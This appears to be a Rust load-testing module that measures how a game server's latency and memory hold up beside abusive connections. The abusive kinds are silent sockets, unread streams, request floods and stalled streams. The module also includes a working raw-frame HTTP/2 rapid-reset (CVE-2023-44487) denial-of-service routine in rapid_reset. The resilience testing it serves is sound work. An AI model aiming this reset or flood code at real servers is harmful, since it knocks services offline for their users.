//! `--abuse N`: honest matches beside N other connections of which a quarter misbehave. The
//! same honest load runs twice on one server: quietly, then beside the crowd; the program prints
//! the honest decision latency (p99) of both runs and their ratio, and the server's resident
//! memory before, during and after the crowd.
//!
//! The crowd: three quarters are well-behaved idle clients (one call each, then they wait); the
//! abusive quarter is split among silent TCP connections (never a byte), slow readers (Watch
//! streams on busy all-bot matches, never read), floods (SubmitAction with a made-up token, as
//! fast as answers come), pending streams (Play streams that never send Join, 32 per
//! connection) and rapid resets (HTTP/2 requests cancelled as soon as they are sent,
//! CVE-2023-44487), or among the kinds `--abusers` names.
//!
//! The crowd runs in a process of its own (`maumau-loadgen crowd`) at the lowest priority
//! (`nice -n 19`): on a machine of two cores its own work (a flood's client side, 1,000
//! connections' handshakes) would otherwise delay the honest clients in this process and count
//! as the server's latency. It leaves by being killed, so the kernel closes all its connections
//! at once; the server's memory and open files are read 3, 15 and 35 seconds later.

use std::time::Duration;

use maumau::pb;
use maumau::pb::match_service_client::MatchServiceClient;
use maumau::pb::play_service_client::PlayServiceClient;
use tokio::task::JoinSet;
use tonic::transport::Channel;

use crate::game::{self, Decode, Delivery, Policy};
use crate::procs::{ChildServer, Counters};
use crate::stats::Window;

/// A kind of abusive connection.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Abuser {
    /// A TCP connection that never sends a byte.
    Silent,
    /// A Watch stream on a busy all-bot match, never read.
    SlowReader,
    /// SubmitAction with a made-up token, as fast as the answers come.
    Flood,
    /// Play streams that never send Join.
    Pending,
    /// HTTP/2 requests each cancelled (RST_STREAM) as soon as it is sent, on raw frames.
    Reset,
}

impl Abuser {
    fn name(self) -> &'static str {
        match self {
            Abuser::Silent => "silent",
            Abuser::SlowReader => "slow-reader",
            Abuser::Flood => "flood",
            Abuser::Pending => "pending",
            Abuser::Reset => "reset",
        }
    }
}

/// Pending Play streams per abusive connection of that kind.
const PENDING_PER_CONNECTION: usize = 32;

/// All-bot matches the slow readers watch (running through both runs).
const BUSY_MATCHES: usize = 2;

/// What one honest run measured.
#[derive(Debug)]
struct Run {
    p99_us: f64,
    p50_us: f64,
    decisions: u64,
    finished: u64,
    errors: u64,
}

async fn honest(
    url: &str,
    streams: usize,
    seed: u64,
    warmup: f64,
    duration: f64,
) -> Result<Run, String> {
    let window = Window::after(
        Duration::from_secs_f64(warmup),
        Duration::from_secs_f64(duration),
    );
    let load = game::load(
        url,
        streams,
        false,
        Policy::Random,
        Decode::Lean,
        Delivery::AsTheyHappen,
        seed,
        window,
    )
    .await?;
    let (decisions, finished, errors) = (load.decisions, load.matches_finished, load.errors);
    let s = load.latencies.summary();
    Ok(Run {
        p99_us: s.p99_us,
        p50_us: s.p50_us,
        decisions,
        finished,
        errors,
    })
}

/// A match of four built-in bots, for slow readers to watch; its spectator token.
async fn busy_match(control: &mut MatchServiceClient<Channel>) -> Result<String, String> {
    let created = control
        .create_match(pb::CreateMatchRequest {
            config: Some(pb::MatchConfig {
                profile: pb::Profile::Classic as i32,
                seats: 4,
                ..Default::default()
            }),
            bots: (0..4)
                .map(|seat| pb::SeatBot {
                    seat,
                    kind: pb::BotKind::Random as i32,
                })
                .collect(),
            ..Default::default()
        })
        .await
        .map_err(|e| format!("create a busy match: {e}"))?
        .into_inner();
    Ok(created.spectator_token)
}

/// Opens the crowd of `n` connections; they live until the returned set is dropped.
async fn crowd(
    url: &str,
    n: usize,
    spectator_tokens: &[String],
    abusers: &[Abuser],
) -> Result<JoinSet<()>, String> {
    let addr = url.trim_start_matches("http://").to_string();
    let mut set = JoinSet::new();
    let abusive = if abusers.is_empty() { 0 } else { n / 4 };
    for i in 0..n {
        let kind = if i < abusive {
            Some(abusers[i % abusers.len()])
        } else {
            None
        };
        if kind == Some(Abuser::Reset) {
            set.spawn(rapid_reset(addr.clone()));
            continue;
        }
        let channel = if kind == Some(Abuser::Silent) {
            // Silent TCP: connected, never a byte.
            let tcp = tokio::net::TcpStream::connect(&addr)
                .await
                .map_err(|e| format!("connect: {e}"))?;
            set.spawn(async move {
                let _tcp = tcp;
                std::future::pending::<()>().await;
            });
            continue;
        } else {
            crate::connect(url, 1).await?.remove(0)
        };
        match kind {
            Some(Abuser::SlowReader) => {
                // Slow reader: a feed of a busy match, never read.
                let token = spectator_tokens[i % spectator_tokens.len()].clone();
                set.spawn(async move {
                    let feed = PlayServiceClient::new(channel)
                        .watch(pb::WatchRequest {
                            token,
                            ..Default::default()
                        })
                        .await;
                    let _keep = feed;
                    std::future::pending::<()>().await;
                });
            }
            Some(Abuser::Flood) => {
                // Flood: SubmitAction with a made-up token, as fast as answers come.
                set.spawn(async move {
                    let mut client = PlayServiceClient::new(channel);
                    loop {
                        let r = client
                            .submit_action(pb::SubmitActionRequest {
                                token: "not-a-token".into(),
                                action: None,
                            })
                            .await;
                        if let Err(e) = r
                            && e.code() == tonic::Code::Unavailable
                        {
                            tokio::time::sleep(Duration::from_millis(100)).await;
                        }
                    }
                });
            }
            Some(Abuser::Pending) => {
                // Pending streams: Play streams that never Join.
                set.spawn(async move {
                    let mut held = Vec::new();
                    for _ in 0..PENDING_PER_CONNECTION {
                        let (tx, rx) = tokio::sync::mpsc::channel::<pb::PlayRequest>(1);
                        let mut client = PlayServiceClient::new(channel.clone());
                        let call = client
                            .play(tokio_stream::wrappers::ReceiverStream::new(rx))
                            .await;
                        held.push((tx, call));
                    }
                    std::future::pending::<()>().await;
                });
            }
            Some(Abuser::Silent | Abuser::Reset) | None => {
                // Well-behaved but idle: one call, then nothing.
                set.spawn(async move {
                    let mut client = MatchServiceClient::new(channel);
                    let _ = client
                        .list_matches(pb::ListMatchesRequest {
                            page_size: 1,
                            ..Default::default()
                        })
                        .await;
                    std::future::pending::<()>().await;
                });
            }
        }
    }
    Ok(set)
}

/// One HTTP/2 frame: its 9-byte header and payload.
fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// Rapid reset (CVE-2023-44487) on raw HTTP/2 frames: a valid gRPC request (ListMatches) on
/// stream after stream, each cancelled with RST_STREAM at once, 64 to a write, as fast as the
/// socket takes them; what the server sends is read and dropped. When the server closes the
/// connection (GOAWAY after its limit of such resets) it comes back 100 ms later.
async fn rapid_reset(addr: String) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    const HEADERS: u8 = 0x1;
    const RST_STREAM: u8 = 0x3;
    const SETTINGS: u8 = 0x4;
    const END_HEADERS: u8 = 0x4;
    const CANCEL: [u8; 4] = 8u32.to_be_bytes();
    // :method POST, :scheme http, :path (literal, indexed name 4), content-type (literal,
    // indexed name 31), te: trailers (literal, new name).
    let path = b"/maumau.v1.MatchService/ListMatches";
    let mut block = vec![0x83, 0x86, 0x04, path.len() as u8];
    block.extend_from_slice(path);
    block.extend_from_slice(&[0x0f, 0x10, 16]);
    block.extend_from_slice(b"application/grpc");
    block.extend_from_slice(&[0x00, 2, b't', b'e', 8]);
    block.extend_from_slice(b"trailers");
    loop {
        if let Ok(tcp) = tokio::net::TcpStream::connect(&addr).await {
            let (mut read, mut write) = tcp.into_split();
            let drain = tokio::spawn(async move {
                let mut buf = [0u8; 16 * 1024];
                while matches!(read.read(&mut buf).await, Ok(n) if n > 0) {}
            });
            let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
            out.extend(h2_frame(SETTINGS, 0, 0, &[]));
            let mut stream = 1u32;
            while write.write_all(&out).await.is_ok() && stream < (1 << 30) {
                out.clear();
                for _ in 0..64 {
                    out.extend(h2_frame(HEADERS, END_HEADERS, stream, &block));
                    out.extend(h2_frame(RST_STREAM, 0, stream, &CANCEL));
                    stream += 2;
                }
            }
            drain.abort();
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// `maumau-loadgen crowd`: opens the crowd, says so on stdout, and holds it until killed.
pub(crate) async fn hold_crowd(
    url: &str,
    n: usize,
    spectator_tokens: &[String],
    abusers: &[Abuser],
) -> Result<(), String> {
    let _crowd = crowd(url, n, spectator_tokens, abusers).await?;
    println!("{CROWD_READY}");
    use std::io::Write as _;
    let _ = std::io::stdout().flush();
    std::future::pending::<()>().await;
    Ok(())
}

/// What the crowd process prints once every connection is open.
const CROWD_READY: &str = "crowd ready";

/// The crowd, in a process of its own; killed (all its connections closed at once) on drop.
struct CrowdProcess(std::process::Child);

impl CrowdProcess {
    /// Its CPU seconds so far (NaN when unknown).
    fn cpu_seconds(&self) -> f64 {
        maumau_benchkit::cpu_seconds(&self.0.id().to_string()).unwrap_or(f64::NAN)
    }

    fn start(
        url: &str,
        n: usize,
        spectator_tokens: &[String],
        abusers: &[Abuser],
    ) -> Result<CrowdProcess, String> {
        use std::io::BufRead as _;
        let me = std::env::current_exe().map_err(|e| format!("cannot find this program: {e}"))?;
        let names: Vec<&str> = abusers.iter().map(|a| a.name()).collect();
        let mut child = std::process::Command::new("nice")
            .args(["-n", "19"])
            .arg(me)
            .args(["crowd", "--url", url, "--connections", &n.to_string()])
            .args(["--watch", &spectator_tokens.join(",")])
            .args(["--abusers", &names.join(",")])
            .stdout(std::process::Stdio::piped())
            .spawn()
            .map_err(|e| format!("cannot start the crowd process: {e}"))?;
        crate::procs::live().push(child.id());
        let stdout = child.stdout.take();
        let crowd = CrowdProcess(child);
        let ready = stdout.is_some_and(|out| {
            std::io::BufReader::new(out)
                .lines()
                .map_while(Result::ok)
                .any(|line| line == CROWD_READY)
        });
        if ready {
            Ok(crowd)
        } else {
            Err("the crowd process stopped before its connections were open".into())
        }
    }
}

impl Drop for CrowdProcess {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The whole `--abuse` run on `server`.
pub(crate) async fn abuse(
    server: &ChildServer,
    n: usize,
    abusers: &[Abuser],
    streams: usize,
    seed: u64,
    warmup: f64,
    duration: f64,
) -> Result<(), String> {
    let url = server.url();
    let rss_start = server.rss_kb();
    // The matches slow readers watch run in both runs, so that only the crowd differs.
    let mut control = MatchServiceClient::new(crate::connect(&url, 1).await?.remove(0));
    let mut spectator_tokens = Vec::new();
    for _ in 0..BUSY_MATCHES {
        spectator_tokens.push(busy_match(&mut control).await?);
    }
    eprintln!("loadgen: quiet run, {streams} honest streams");
    let cpu = server.cpu_seconds();
    let me = Counters::read("self");
    let quiet = honest(&url, streams, seed, warmup, duration).await?;
    let cpu_quiet = server.cpu_seconds() - cpu;
    let me_quiet = Counters::read("self").since(&me);
    // Every process of the scenario (the server, this one), against the machine's busy CPU.
    let share_quiet = (cpu_quiet + me_quiet.cpu) / me_quiet.machine;
    tokio::time::sleep(Duration::from_secs(1)).await;
    let (rss_quiet, fds_quiet) = (server.rss_kb(), server.open_fds());
    let names: Vec<&str> = abusers.iter().map(|a| a.name()).collect();
    eprintln!(
        "loadgen: opening {n} connections in a crowd process, {} abusive ({})",
        if abusers.is_empty() { 0 } else { n / 4 },
        names.join(", ")
    );
    let crowd = {
        let (url, tokens, abusers) = (url.clone(), spectator_tokens.clone(), abusers.to_vec());
        tokio::task::spawn_blocking(move || CrowdProcess::start(&url, n, &tokens, &abusers))
            .await
            .map_err(|e| e.to_string())??
    };
    tokio::time::sleep(Duration::from_secs(1)).await;
    eprintln!("loadgen: run beside the crowd");
    let cpu = server.cpu_seconds();
    let (me, crowd_cpu) = (Counters::read("self"), crowd.cpu_seconds());
    let loud = honest(&url, streams, seed + 1, warmup, duration).await?;
    let cpu_loud = server.cpu_seconds() - cpu;
    let me_loud = Counters::read("self").since(&me);
    // The crowd is part of this run's scenario: its CPU time is the run's, not other work's.
    let share_loud = (cpu_loud + me_loud.cpu + crowd.cpu_seconds() - crowd_cpu) / me_loud.machine;
    let (rss_crowd, fds_crowd) = (server.rss_kb(), server.open_fds());
    drop(crowd);
    // The crowd's connections are closed; the server lets go of them.
    tokio::time::sleep(Duration::from_secs(3)).await;
    let (rss_after, fds_after) = (server.rss_kb(), server.open_fds());
    tokio::time::sleep(Duration::from_secs(12)).await;
    let (rss_later, fds_later) = (server.rss_kb(), server.open_fds());
    // Past the 30 s a Play stream may take to send Join.
    tokio::time::sleep(Duration::from_secs(20)).await;
    let (rss_last, fds_last) = (server.rss_kb(), server.open_fds());
    println!(
        "abuse: {n} connections beside {streams} honest Play streams ({} abusive: {})",
        if abusers.is_empty() { 0 } else { n / 4 },
        names.join(", ")
    );
    for (what, r, cpu) in [("quiet", &quiet, cpu_quiet), ("crowd", &loud, cpu_loud)] {
        println!(
            "{what:>6}: decisions {:>8}  matches finished {:>5}  p50 {:>8.0} µs  p99 {:>8.0} µs  errors {}  server CPU {:.1} s",
            r.decisions, r.finished, r.p50_us, r.p99_us, r.errors, cpu
        );
    }
    let ratio = loud.p99_us / quiet.p99_us;
    let share = share_quiet.min(share_loud);
    println!(
        "p99 ratio crowd/quiet: {ratio:.2} (goal at most 1.5: {}; the runs had {share:.2} of the \
         machine's busy CPU)",
        maumau_benchkit::machine_verdict(ratio <= 1.5, share)
    );
    println!(
        "server RSS (open files): start {rss_start} kB, after the quiet run {rss_quiet} kB \
         ({fds_quiet}), with the crowd {rss_crowd} kB ({fds_crowd}), 3 s after it left \
         {rss_after} kB ({fds_after}), 15 s after {rss_later} kB ({fds_later}), 35 s after \
         {rss_last} kB ({fds_last})"
    );
    Ok(())
}
